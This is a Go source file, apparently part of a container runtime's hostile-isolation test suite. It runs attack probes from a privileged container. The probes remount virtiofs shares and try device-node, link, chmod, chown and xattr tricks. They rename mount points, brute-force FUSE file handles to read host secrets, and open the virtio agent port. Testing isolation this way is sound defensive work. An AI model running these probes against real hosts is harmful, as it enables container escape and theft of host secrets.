package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"

	"github.com/rkt/containerd-shim-rkt-v1/integration/hostile/loot"
)

// share attacks the host from a container that has all rights in its machine. It mounts the machine's
// shares a second time: that of the roots, and that of the volumes, which has a directory for each
// container. It may change what the host has mounted for containers, and nothing else. It prints what it
// has reached in order to attack, because a share that was not reached was not attacked.
func (t target) share() {
	for tag, pattern := range map[string]string{"roots": "*", "pod": "*/*"} {
		at := "/tmp/" + tag
		must(os.MkdirAll(at, 0o755))
		must(unix.Mount(tag, at, "virtiofs", 0, ""))
		places, err := filepath.Glob(filepath.Join(at, pattern))
		must(err)
		t.shareDirectory(at)
		for _, place := range places { // of neighbours, too
			file := filepath.Join(place, "reached")
			must(os.WriteFile(file, nil, 0o600))
			must(os.Remove(file))
			fmt.Println("reached a place of", tag)
			t.sharePlace(place)
			t.shareDirectory(filepath.Dir(place))
		}
		t.shareHandles(at)
	}
	t.shareChannel()
}

// shareDirectory tries to change a directory in which the host mounts files.
func (t target) shareDirectory(dir string) {
	file := filepath.Join(dir, "loot")
	tryEach(map[string]func() error{
		"a directory is made":    func() error { return unix.Mkdir(file, 0o755) },
		"a file is made":         func() error { return unix.Mknod(file, unix.S_IFREG|0o644, 0) },
		"a device is made":       func() error { return unix.Mknod(file, unix.S_IFBLK|0o644, int(unix.Mkdev(8, 0))) },
		"a link is made":         func() error { return unix.Symlink(t.secrets[0], file) },
		"a mode is changed":      func() error { return unix.Chmod(dir, 0o777) },
		"an owner is changed":    func() error { return unix.Lchown(dir, 1000, 1000) },
		"an attribute is set":    func() error { return unix.Setxattr(dir, "trusted.loot", []byte("1"), 0) },
		"the secret is read":     func() error { return readable(dir + "/" + up + t.secrets[0]) },
		"the secret is a target": func() error { return unix.Link(dir+"/"+up+t.secrets[0], file) },
	})
}

// sharePlace tries to move a directory on which the host has mounted files.
func (t target) sharePlace(place string) {
	dir := filepath.Dir(place)
	tryEach(map[string]func() error{
		"a place is renamed":  func() error { return unix.Rename(place, filepath.Join(dir, "moved")) },
		"a place is removed":  func() error { return unix.Rmdir(place) },
		"a name is exchanged": func() error { return unix.Renameat2(unix.AT_FDCWD, place, unix.AT_FDCWD, dir, unix.RENAME_EXCHANGE) },
	})
}

// tryEach reports the attacks that are successful.
func tryEach(attacks map[string]func() error) {
	for what, attack := range attacks {
		if attack() == nil {
			got(loot.Write, "%s in the share", what)
		}
	}
}

func readable(path string) error {
	f, err := os.Open(path)
	if err == nil {
		f.Close()
	}
	return err
}

// shareHandles opens files by handles that the host has not given to any process: the numbers of virtiofsd's inodes.
func (t target) shareHandles(at string) {
	mount, err := unix.Open(at, unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	must(err)
	defer unix.Close(mount)
	const withoutParent = 0x81 // FILEID of FUSE: the halves of the number, and the generation
	for number := range uint64(300) {
		handle := binary.NativeEndian.AppendUint32(nil, uint32(number>>32))
		handle = binary.NativeEndian.AppendUint32(handle, uint32(number))
		handle = binary.NativeEndian.AppendUint32(handle, 0)
		fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(withoutParent, handle), unix.O_RDONLY|unix.O_CLOEXEC)
		if err != nil {
			continue
		}
		for _, secret := range t.secrets[:1] {
			t.read(fmt.Sprintf("/proc/self/fd/%d/%s%s", fd, up, secret), "by a handle of the share")
		}
		unix.Close(fd)
		fmt.Println("reached a file by a handle")
	}
}

// shareChannel tries to open the port by which the agent speaks to the host. The container's root has no
// devices, and its /dev has.
func (t target) shareChannel() {
	ports, err := filepath.Glob("/sys/class/virtio-ports/*/dev")
	must(err)
	for _, port := range ports {
		var major, minor uint32
		text, err := os.ReadFile(port)
		must(err)
		_, err = fmt.Sscanf(string(text), "%d:%d", &major, &minor)
		must(err)
		const node = "/dev/loot"
		must(unix.Mknod(node, unix.S_IFCHR|0o600, int(unix.Mkdev(major, minor))))
		fd, err := unix.Open(node, unix.O_RDWR|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err == nil {
			unix.Close(fd)
			got(loot.Device, "the port %d:%d", major, minor)
		}
		fmt.Println("reached a port:", err)
		must(os.Remove(node))
	}
}
